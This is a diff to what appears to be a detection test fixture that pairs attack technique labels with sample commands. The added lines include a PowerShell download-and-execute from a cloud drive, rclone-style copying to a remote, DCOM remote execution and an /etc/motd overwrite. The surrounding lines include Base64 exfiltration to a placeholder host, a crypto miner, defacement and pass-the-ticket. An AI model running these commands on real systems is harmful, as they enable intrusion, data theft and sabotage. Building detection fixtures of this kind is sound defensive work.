@@ -55,6 +55,9 @@ file-transfer-channel: import ftplib; ftplib.FTP('x')
 publish-channel: mosquitto_pub -h x -t y -m z
 telnet-channel: telnet host.example.test 4444
 web-service-channel: curl https://api.telegram.org/botX/getUpdates
+cloud-drive-channel: iex (irm https://graph.microsoft.com/v1.0/me/drive/root:/q/c.txt:/content); iex $c
+renamed-rclone: C:\x\sync.exe --config C:\x\r.conf copy C:\x box:in
+dcom-command: $m.Document.ActiveView.ExecuteShellCommand('cmd', $null, '/c ver', '7')
 one-way-service: curl https://webhook.site/x
 encoding-channel: $x = [Convert]::ToBase64String($b); Invoke-WebRequest http://example.test/$x
 base64-encode: [Convert]::ToBase64String($b)
@@ -140,6 +143,7 @@ account-removal-unix: userdel bob
 cloud-account-removal: aws iam delete-user --user-name x
 wallpaper: reg add "HKCU\Control Panel\Desktop" /v Wallpaper /d x.bmp
 web-defacement: echo "hacked by x" > index.html
+logon-text-unix: cp x /etc/motd
 miner: xmrig -o stratum+tcp://pool.example.test:3333
 cpu-burn: yes > /dev/null
 bandwidth-use: honeygain -x
@@ -188,6 +192,7 @@ pass-the-ticket: kerberos::ptt x.kirbi
 application-token: Connect-MgGraph -AccessToken $t
 web-session-cookie: ESTSAUTHPERSISTENT=x
 lateral-copy: copy x.exe \\server1\C$\Temp\x.exe
+copy-to-share: robocopy D:\Data \\server1\backup /MIR
 smb-over-quic: NET USE * \\server1\x /TRANSPORT:QUIC
 copy-from-share: net share x$=C:\y
 exploit-remote: zerologon x
